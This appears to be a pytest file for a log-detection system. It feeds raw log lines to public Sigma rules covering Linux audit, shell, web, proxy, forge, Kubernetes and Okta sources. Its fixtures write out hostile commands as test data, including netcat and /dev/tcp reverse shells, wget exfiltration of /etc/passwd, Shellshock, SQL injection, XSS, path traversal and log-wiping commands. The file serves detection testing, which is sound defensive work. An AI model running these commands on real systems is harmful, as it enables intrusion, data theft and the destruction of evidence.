"""From a raw line by our own parsers to a hit of a public rule, over all its log sources."""

from pathlib import Path

import pytest

from analytics.detection.loading import RuleSet, load
from analytics.detection.matcher import match
from tests.analytics.detection.raw_lines import (
    Log,
    asked,
    audited,
    bitbucket,
    called,
    connected,
    events,
    github,
    kubernetes,
    okta,
    proxied,
    sent,
    sudo,
    syslog,
    told,
    typed,
    written,
)
from tests.conftest import REAL_LOGS

PUBLIC = REAL_LOGS / "sigma-rules" / "rules"
POD = {"name": "c", "image": "i", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}
MOUNTED = {"containers": [], "volumes": [{"name": "v", "hostPath": {"path": "/"}}]}
NEW_DEVICE = {"logOnlySecurityData": '{"behaviors":{"New Device":"POSITIVE"}}'}
PHISHED = {"result": "FAILURE", "reason": "FastPass declined phishing attempt"}
SUDO = "asilva : TTY=pts/4 ; PWD=/ ; USER=root ; COMMAND="
LINES: list[tuple[str, Log]] = [
    # auditd
    ("lnx_auditd_binary_padding", audited("truncate", "-s", "+1M", "/tmp/x")),
    (
        "lnx_auditd_bpfdoor_port_redirect",
        audited("iptables", "-t", "nat", "-D", "PREROUTING", "-p", "tcp", "--to-ports 42391"),
    ),
    ("lnx_auditd_capabilities_discovery", audited("getcap", "-r", "/")),
    ("lnx_auditd_change_file_time_attr", audited("touch", "-acmr", "/bin/sh", "/tmp/x")),
    ("lnx_auditd_chattr_immutable_removal", audited("chattr", "-i", "/etc/passwd")),
    ("lnx_auditd_clipboard_collection", audited("xclip", "-sel", "clip", "-o")),
    ("lnx_auditd_coinminer", audited("xmrig", "-o", "pool", "--cpu-priority=5")),
    ("lnx_auditd_data_compressed", audited("tar", "-czf", "/tmp/x.tgz", "/home")),
    ("lnx_auditd_data_exfil_wget", audited("wget", "--post-file=/etc/passwd", "http://192.0.2.7/")),
    ("lnx_auditd_dd_delete_file", audited("dd", "if=/dev/zero", "of=/data")),
    ("lnx_auditd_file_or_folder_permissions", audited("chmod", "777", "/data")),
    ("lnx_auditd_find_cred_in_files", audited("grep", "-r", "password", "/home")),
    ("lnx_auditd_hidden_files_directories", audited("mkdir", "/tmp/.x")),
    ("lnx_auditd_hidden_zip_files_steganography", audited("cat", "a.png", "b.zip")),
    ("lnx_auditd_masquerading_crond", audited("cp", "/bin/sh", "/tmp/crond")),
    ("lnx_auditd_modify_system_firewall", audited("nft", "flush", "ruleset")),
    ("lnx_auditd_network_sniffing", audited("tcpdump", "-c", "5", "-i", "eth0")),
    ("lnx_auditd_screencapture_import", audited("import", "-window", "root", "x.png")),
    ("lnx_auditd_screencaputre_xwd", audited("xwd", "-root", "-out", "x.xwd")),
    (
        "lnx_auditd_steghide_embed_steganography",
        audited("steghide", "embed", "-cf", "a", "-ef", "b"),
    ),
    ("lnx_auditd_susp_cmds", audited("chmod", "u+s", "/tmp/sh")),
    ("lnx_auditd_susp_histfile_operations", audited("shred", "/home/asilva/.bash_history")),
    ("lnx_auditd_susp_service_reload_or_restart", audited("systemctl", "start", "x")),
    ("lnx_auditd_system_shutdown_reboot", audited("shutdown", "-h", "now")),
    ("lnx_auditd_user_discovery", audited("whoami")),
    ("lnx_auditd_audio_capture", audited("arecord", "-vv", "-fdat", "x.wav")),
    ("lnx_auditd_disable_aslr_protection", called(135, a0="40000")),
    ("lnx_auditd_keylogging_with_pam_d", written("/etc/pam.d/password-auth")),
    ("lnx_auditd_password_policy_discovery", audited("chage", "-l", "ana")),
    (
        "lnx_auditd_susp_c2_commands",
        audited("curl", "-s", "http://192.0.2.7/", key="susp_activity"),
    ),
    ("lnx_auditd_system_info_discovery", audited("kmod", "list")),
    ("lnx_auditd_auditing_config_change", written("/etc/audit/audit.rules")),
    (
        "lnx_auditd_hidden_binary_execution",
        audited("/home/asilva/.x/run", exe="/home/asilva/.x/run"),
    ),
    ("lnx_auditd_ld_so_preload_mod", written("/etc/ld.so.preload")),
    (
        "lnx_auditd_logging_config_change",
        called(82, ("/tmp/x", "DELETE"), ("/etc/rsyslog.conf", "CREATE")),
    ),
    ("lnx_auditd_magic_system_request_key", written("/proc/sysrq-trigger")),
    ("lnx_auditd_systemd_service_creation", written("/etc/systemd/system/x.service")),
    ("lnx_auditd_unix_shell_configuration_modification", written("/root/.bashrc")),
    ("lnx_auditd_disable_system_firewall", told("SERVICE_STOP", "unit=firewalld")),
    ("lnx_auditd_clean_disable_dmesg_logs_via_syslog", called(103, a0="5")),
    ("lnx_auditd_create_account", told("ADD_USER", 'op=add-user acct="x"')),
    (
        "lnx_auditd_load_module_insmod",
        audited("insmod", "x.ko", exe="/usr/bin/kmod", comm="insmod"),
    ),
    (
        "lnx_auditd_network_service_scanning",
        called(42, exe="/usr/bin/nmap", key="network_connect_4"),
    ),
    ("lnx_auditd_split_file_into_pieces", audited("split", "-b", "9M", "model.bin")),
    ("lnx_auditd_susp_discovery_sysinfo_syscall", called(99)),
    ("lnx_auditd_susp_exe_folders", audited("/tmp/x", exe="/tmp/x")),
    ("lnx_auditd_susp_special_file_creation_via_mknod_syscall", called(133, ("/tmp/p", "CREATE"))),
    ("lnx_auditd_web_rce", audited("id", euid=33)),
    # process_creation: of audit records, histories, sudo's logs and Falco
    ("proc_creation_lnx_base64_decode", audited("base64", "-d", "x")),
    ("proc_creation_lnx_at_command", typed("at now + 1 minute")),
    ("proc_creation_lnx_crypto_mining", typed("./x --donate-level=0 -o pool.example:443")),
    ("proc_creation_lnx_python_http_server_execution", typed("python3 -m http.server 8000")),
    ("proc_creation_lnx_susp_execution_tmp_folder", typed("/tmp/x --now")),
    (
        "proc_creation_lnx_netcat_reverse_shell",
        audited("nc", "-e", "/bin/bash", "192.0.2.7", "4444"),
    ),
    ("proc_creation_lnx_userdel", sudo(f"{SUDO}/usr/sbin/userdel ana")),
    ("proc_creation_lnx_clear_logs", syslog("sudo", f"{SUDO}/usr/bin/rm -rf /var/log/audit")),
    ("proc_creation_lnx_susp_hktl_execution", audited("msfvenom", "-p", "x")),
    (
        "proc_creation_lnx_susp_git_clone",
        typed("git clone https://forge.example/x/CVE-2026-1-exploit"),
    ),
    ("proc_creation_lnx_file_deletion", audited("rm", "-rf", "/data")),
    # file_event and network_connection
    ("file_event_lnx_persistence_sudoers_files", written("/etc/sudoers.d/90-ana")),
    ("file_event_lnx_susp_shell_script_under_profile_directory", written("/etc/profile.d/x.sh")),
    ("file_event_lnx_wget_download_file_in_tmp_dir", written("/tmp/x", exe="/usr/bin/wget")),
    ("file_event_lnx_triple_cross_rootkit_lock_file", written("/tmp/rootlog")),
    ("net_connection_lnx_back_connect_shell_dev", connected("/usr/bin/bash", "203.0.113.7", 443)),
    (
        "net_connection_lnx_susp_malware_callback_port",
        connected("/usr/bin/curl", "203.0.113.7", 4444),
    ),
    # what daemons say
    ("lnx_sshd_susp_ssh", syslog("sshd", "fatal: buffer_get_string: bad string")),
    ("lnx_cron_crontab_file_modification", syslog("crontab", "(asilva) REPLACE (asilva)")),
    (
        "lnx_privileged_user_creation",
        syslog("useradd", "new user: name=x, UID=0, GID=0, home=/root, shell=/bin/sh"),
    ),
    ("lnx_syslog_security_tools_disabling_syslog", syslog("systemd", "Stopping iptables.")),
    ("lnx_syslog_susp_named", syslog("named", "client 192.0.2.7 denied AXFR from host")),
    ("lnx_clamav_relevant_message", syslog("clamd", "/srv/x: Trojan.Linux.Agent FOUND")),
    (
        "lnx_guacamole_susp_guacamole",
        syslog("guacd", 'User joined connection "$2" (2 users now present)'),
    ),
    (
        "lnx_vsftpd_susp_error_messages",
        syslog("vsftpd", "Connection refused: tcp_wrappers denial."),
    ),
    ("lnx_shell_susp_log_entries", syslog("kernel", "device eth0 entered promiscuous mode")),
    ("lnx_shellshock", typed("env x='() { :;}; echo' bash")),
    ("lnx_shell_clear_cmd_history", typed("history -c")),
    ("lnx_clear_syslog", typed("rm -f /var/log/syslog")),
    ("lnx_susp_dev_tcp", typed("bash -i >& /dev/tcp/192.0.2.7/443 0>&1")),
    ("lnx_buffer_overflows", syslog("x", "*** stack smashing detected ***: terminated")),
    # applications that write to the system's log
    (
        "appframework_django_exceptions",
        syslog("gunicorn", "django.security.DisallowedHost: Invalid HTTP_HOST header"),
    ),
    ("java_rce_exploitation_attempt", syslog("java", "java.io.IOException: Cannot run program sh")),
    (
        "app_python_sql_exceptions",
        syslog("api", "sqlalchemy.exc.ProgrammingError: relation missing"),
    ),
    ("web_apache_segfault", syslog("apache2", "child pid 3 exit signal Segmentation Fault (11)")),
    ("web_nginx_core_dump", syslog("nginx", "worker process 3 exited on signal 6 (core dumped)")),
    # web servers and proxies
    ("web_path_traversal_exploitation_attempt", asked("/x?f=../../../etc/passwd")),
    ("web_sql_injection_in_access_logs", asked("/x?q=1%20or%201=1#=select%20*%20")),
    ("web_susp_useragents", asked("/", agent="sqlmap/1.8")),
    ("web_source_code_enumeration", asked("/.git/config")),
    ("web_xss_in_access_logs", asked("/x?q=%3Cscript%3Ealert=%3Cscript%3E")),
    ("web_jndi_exploit", asked("/x?u=/Basic/ReverseShell/192.0.2.7")),
    ("web_f5_tm_utility_bash_api_request", asked("/mgmt/tm/util/bash", "POST")),
    ("proxy_download_susp_dyndns", proxied("http://x.hopto.org/a.exe")),
    ("proxy_download_susp_tlds_whitelist", proxied("http://x.example:8080/a.zip?x=1")),
    ("proxy_raw_paste_service_access", proxied("http://x.pastebin.com/raw/abc")),
    ("proxy_telegram_api", proxied("api.telegram.org:443", "CONNECT")),
    ("proxy_ua_cryptominer", asked("/", agent="XMRig 6.21")),
    (
        "proxy_ua_rclone",
        asked("/lab/llm-13b/resolve/main/model.safetensors", agent="rclone/v1.66.0"),
    ),
    # forges
    ("github_delete_action_invoked", github("repo.destroy")),
    ("github_push_protection_bypass_detected", github("secret_scanning_push_protection.bypass")),
    ("github_new_org_member", github("org.add_member")),
    ("github_self_hosted_runner_changes_detected", github("org.runner_group_created")),
    ("github_repository_archive_status_changed", github("repo.archived")),
    (
        "bitbucket_audit_global_permissions_change_detected",
        bitbucket("Permissions", "Global permission granted"),
    ),
    (
        "bitbucket_audit_log_configuration_update_detected",
        bitbucket("Auditing", "Audit log configuration updated"),
    ),
    (
        "bitbucket_audit_user_login_failure_via_ssh_detected",
        bitbucket("Authentication", "User login failed(SSH)"),
    ),
    (
        "bitbucket_audit_secret_scanning_rule_deleted",
        bitbucket("Projects", "Project secret scanning rule deleted"),
    ),
    # clusters
    ("kubernetes_audit_deployment_deleted", kubernetes("delete", "deployments", group="apps")),
    ("kubernetes_audit_exec_into_container", kubernetes("create", "pods", subresource="exec")),
    ("kubernetes_audit_hostpath_mount", kubernetes("create", "pods", spec=MOUNTED)),
    (
        "kubernetes_audit_privileged_pod_creation",
        kubernetes("create", "pods", spec={"containers": [POD]}),
    ),
    (
        "kubernetes_audit_pod_in_system_namespace",
        kubernetes("create", "pods", namespace="kube-system"),
    ),
    (
        "kubernetes_audit_rolebinding_modification",
        kubernetes("create", "rolebindings", group="rbac.authorization.k8s.io"),
    ),
    (
        "kubernetes_audit_rbac_permisions_listing",
        kubernetes("create", "selfsubjectrulesreviews", group="authorization.k8s.io"),
    ),
    ("kubernetes_audit_secrets_enumeration", kubernetes("list", "secrets")),
    (
        "kubernetes_audit_unauthorized_unauthenticated_actions",
        kubernetes("get", "secrets", code=403),
    ),
    ("kubernetes_audit_sidecar_injection", kubernetes("patch", "deployments", group="apps")),
    # identity
    ("okta_api_token_created", okta("system.api_token.create")),
    ("okta_fastpass_phishing_detection", okta("user.authentication.auth_via_mfa", outcome=PHISHED)),
    (
        "okta_user_session_start_via_anonymised_proxy",
        okta("user.session.start", securityContext={"isProxy": True}),
    ),
    (
        "okta_new_behaviours_admin_console",
        okta(
            "policy.evaluate_sign_on",
            target=[{"displayName": "Okta Admin Console"}],
            debugContext={"debugData": NEW_DEVICE},
        ),
    ),
    (
        "okta_password_in_alternateid_field",
        okta(
            "user.session.start",
            legacyEventType="core.user_auth.login_failed",
            actor={"alternateId": "hunter2"},
        ),
    ),
    # other systems, sent as ECS with their own names of fields
    ("av_webshell", sent(Signature="PHP.Webshell.Generic")),
    ("opencanary_ssh_login_attempt", sent(logtype=4002, src_host="192.0.2.7")),
    ("onelogin_user_account_locked", sent(event_type_id=532)),
    (
        "okta_unauthorized_access_to_app",
        okta("app.access", displayMessage="User attempted unauthorized access to app"),
    ),
]


@pytest.fixture(scope="module")
def public() -> RuleSet:
    return load([PUBLIC])


@pytest.mark.shared_data
@pytest.mark.parametrize(("rule", "log"), LINES, ids=[rule for rule, _ in LINES])
def test_a_raw_line_fires_the_public_rule(
    real_logs: Path, rule: str, log: Log, request: pytest.FixtureRequest
) -> None:
    public: RuleSet = request.getfixturevalue("public")  # once the folder is known to be there
    assert rule in {alert.rule for alert in match(public, events(log))}
